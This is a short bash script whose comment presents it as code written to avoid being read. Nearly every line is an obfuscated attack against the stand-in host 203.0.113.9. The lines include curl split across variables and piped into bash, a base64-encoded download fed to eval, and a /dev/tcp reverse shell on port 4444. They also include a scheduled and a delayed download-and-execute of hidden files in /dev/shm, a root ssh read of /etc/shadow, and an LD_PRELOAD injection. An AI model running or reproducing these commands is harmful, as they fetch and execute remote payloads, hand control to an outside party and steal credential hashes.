#!/bin/bash
# What somebody writes who does not want to be read.
x=cu; y=rl
$x$y -s http://203.0.113.9/a | $(echo ba)sh
eval "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYgo= | base64 -d)"
python3 -c 'import os; os.system("id")'
exec 5<>/dev/tcp/203.0.113.9/4444
cat <&5 | while read -r line; do $line 2>&5 >&5; done
echo 'curl http://203.0.113.9/c' | at now
nohup sh -c 'sleep 60; wget -q http://203.0.113.9/d -O /dev/shm/.d && chmod +x /dev/shm/.d && /dev/shm/.d' &
ssh -o StrictHostKeyChecking=no root@203.0.113.9 'cat /etc/shadow'
export LD_PRELOAD=/dev/shm/.e.so
